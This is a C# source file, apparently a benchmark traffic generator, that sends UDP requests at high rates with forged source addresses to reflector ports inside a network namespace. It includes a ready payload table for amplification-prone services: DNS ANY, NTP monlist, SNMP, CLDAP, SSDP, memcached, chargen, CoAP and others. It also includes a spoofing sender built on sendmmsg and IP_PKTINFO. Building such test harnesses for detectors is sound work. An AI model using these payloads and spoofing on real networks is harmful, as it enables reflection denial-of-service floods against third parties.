using System.Buffers.Binary;
using System.Globalization;
using System.Net;
using System.Runtime.InteropServices;

namespace Kizashi.Bench.Reflectors;

/// <summary>Sends requests in many names as fast as told, in a process of its own: sendmmsg(2) with UDP segmentation offload, the source of each message chosen by IP_PKTINFO.</summary>
/// <remarks>Only within a network namespace whose loopback takes the claimed sources for its own; elsewhere the system refuses to send.</remarks>
internal static unsafe partial class RequestGenerator
{
    public const string Mode = "generate-requests";

    private const int Batch = 64;
    private const int NameBytes = 16;
    private const int ControlBytes = 64;
    private const int MostPayload = 4096;

    /// <summary>What vulnerable servers are asked for, with the port.</summary>
    public static readonly (ushort Port, byte[] Payload)[] Requests =
    [
        (53, [0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 1, 7, .. "example"u8, 3, .. "org"u8, 0, 0, 255, 0, 1, 0, 0, 41, 16, 0, 0, 0, 0, 0, 0, 0]),
        (123, [0x17, 0, 3, 42, 0, 0, 0, 0]),
        (161, Convert.FromHexString("302602010104067075626C6963A51902047B2C3D4E02010002027D00300B300906052B060102010500")),
        (389, [0x30, 0x25, 2, 1, 1, 0x63, 0x20, 4, 0, 10, 1, 0, 10, 1, 0, 2, 1, 0, 2, 1, 0, 1, 1, 0, 0x87, 11, .. "objectClass"u8, 0x30, 0]),
        (1900, [.. "M-SEARCH * HTTP/1.1\r\nHOST:239.255.255.250:1900\r\nST:ssdp:all\r\nMAN:\"ssdp:discover\"\r\nMX:3\r\n\r\n"u8]),
        (11211, [0, 1, 0, 0, 0, 1, 0, 0, .. "stats\r\n"u8]),
        (19, [1]),
        (17, [1]),
        (5683, [0x40, 1, 0x7D, 0x34, 0xBB, .. ".well-known"u8, 4, .. "core"u8]),
        (3702, [.. "<:/>aaaaaaaaaaaa"u8]),
        (1434, [2]),
        (3283, [0, 0x14, 0, 1, 3]),
    ];

    /// <summary>Arguments: reflector, requests, requests a second, first claimed source, how many sources, requests of a message, attacks, how many sources to pass over.</summary>
    /// <remarks>Attacks are further sources, each with 150 requests spread over the run, at 250.0.0.1 and so on behind the first source's network.</remarks>
    public static int Run(string[] args)
    {
        var (reflector, total) = (IPAddress.Parse(args[0]), long.Parse(args[1], CultureInfo.InvariantCulture));
        var rate = double.Parse(args[2], CultureInfo.InvariantCulture);
        var first = BinaryPrimitives.ReadUInt32BigEndian(IPAddress.Parse(args[3]).GetAddressBytes());
        var sources = uint.Parse(args[4], CultureInfo.InvariantCulture);
        var segments = int.Parse(args[5], CultureInfo.InvariantCulture);
        var attacks = args.Length > 6 ? int.Parse(args[6], CultureInfo.InvariantCulture) : 0;
        var skip = args.Length > 7 ? uint.Parse(args[7], CultureInfo.InvariantCulture) : 0;
        using var sender = new Sender(reflector);
        var started = TimeProvider.System.GetTimestamp();
        var (sent, message, attackSent) = (0L, 0L, 0L);
        const int EachAttack = 150;
        while (sent < total)
        {
            // What is due by now, in messages of whole batches.
            var due = (long)(TimeProvider.System.GetElapsedTime(started).TotalSeconds * rate);
            if (sent >= due)
            {
                Thread.SpinWait(50);
                continue;
            }

            for (var index = 0; index < Batch; index++, message++)
            {
                var (port, payload) = Requests[message % Requests.Length];
                sender.Set(index, first + Scatter(skip + (uint)((ulong)message % sources)), port, payload, segments);
            }

            sent += sender.Send(Batch) * segments;
            while (attacks > 0 && attackSent < attacks * EachAttack && attackSent < (double)sent / total * attacks * EachAttack)
            {
                sender.Set(0, 0x2A000001 + ((uint)(attackSent % attacks) << 16), 53, Requests[0].Payload, 1);
                attackSent += sender.Send(1);
            }
        }

        Console.WriteLine(string.Create(CultureInfo.InvariantCulture, $"{sent + attackSent} {TimeProvider.System.GetElapsedTime(started).TotalSeconds:F3}"));
        return 0;
    }

    // As forged addresses are: anywhere in 16.0.0.0/4, each number another one.
    private static uint Scatter(uint number) => (number * 2654435761) & 0x0FFFFFFF;

    private sealed class Sender : IDisposable
    {
        private readonly byte* _memory;
        private readonly Message* _messages;
        private readonly IPAddress _reflector;
        private readonly int _file;

        public Sender(IPAddress reflector)
        {
            const int Each = NameBytes + ControlBytes + MostPayload + 16;
            _reflector = reflector;
            _memory = (byte*)NativeMemory.AllocZeroed((nuint)(Batch * (sizeof(Message) + Each)));
            _messages = (Message*)_memory;
            var at = _memory + (Batch * sizeof(Message));
            for (var index = 0; index < Batch; index++, at += Each)
            {
                var message = _messages + index;
                message->Name = at;
                message->NameLength = NameBytes;
                message->Control = at + NameBytes;
                message->Vectors = (Vector*)(at + NameBytes + ControlBytes);
                message->Vectors->Base = at + NameBytes + ControlBytes + 16;
                message->VectorCount = 1;
            }

            _file = Socket(2, 2, 0);
            var size = 8 << 20;
            _ = SetOption(_file, 1, 7, &size, 4);
        }

        public void Set(int index, uint source, ushort port, ReadOnlySpan<byte> payload, int segments)
        {
            const int UdpLevel = 17;
            const int UdpSegment = 103;
            var message = _messages + index;
            *(short*)message->Name = 2;
            BinaryPrimitives.WriteUInt16BigEndian(new Span<byte>(message->Name + 2, 2), port);
            _reflector.TryWriteBytes(new Span<byte>(message->Name + 4, 4), out _);
            for (var segment = 0; segment < segments; segment++)
                payload.CopyTo(new Span<byte>(message->Vectors->Base + (segment * payload.Length), payload.Length));

            message->Vectors->Length = (nuint)(payload.Length * segments);
            var control = message->Control;
            *(nuint*)control = 16 + 12;
            *(int*)(control + 8) = 0;
            *(int*)(control + 12) = 8;
            *(int*)(control + 16) = 0;
            BinaryPrimitives.WriteUInt32BigEndian(new Span<byte>(control + 20, 4), source);
            *(nuint*)(control + 32) = 16 + 2;
            *(int*)(control + 40) = UdpLevel;
            *(int*)(control + 44) = UdpSegment;
            *(ushort*)(control + 48) = (ushort)payload.Length;
            message->ControlLength = segments > 1 ? 56u : 32u;
        }

        public int Send(int count)
        {
            var sent = SendMany(_file, _messages, (uint)count, 0);
            return sent > 0 ? sent : throw new InvalidOperationException($"sendmmsg: {Marshal.GetLastPInvokeErrorMessage()}");
        }

        public void Dispose()
        {
            _ = Close(_file);
            NativeMemory.Free(_memory);
        }
    }

    private struct Vector
    {
        public byte* Base;
        public nuint Length;
    }

    [StructLayout(LayoutKind.Sequential)]
    private struct Message
    {
        public byte* Name;
        public uint NameLength;
        public Vector* Vectors;
        public nuint VectorCount;
        public byte* Control;
        public nuint ControlLength;
        public int Flags;
        private readonly int _gap;
        public uint Length;
        private readonly uint _padding;
    }

    [LibraryImport("libc", EntryPoint = "socket", SetLastError = true)]
    [DefaultDllImportSearchPaths(DllImportSearchPath.SafeDirectories)]
    private static partial int Socket(int domain, int type, int protocol);

    [LibraryImport("libc", EntryPoint = "setsockopt")]
    [DefaultDllImportSearchPaths(DllImportSearchPath.SafeDirectories)]
    private static partial int SetOption(int file, int level, int name, void* value, uint length);

    [LibraryImport("libc", EntryPoint = "sendmmsg", SetLastError = true)]
    [DefaultDllImportSearchPaths(DllImportSearchPath.SafeDirectories)]
    private static partial int SendMany(int file, Message* messages, uint count, int flags);

    [LibraryImport("libc", EntryPoint = "close")]
    [DefaultDllImportSearchPaths(DllImportSearchPath.SafeDirectories)]
    private static partial int Close(int file);
}
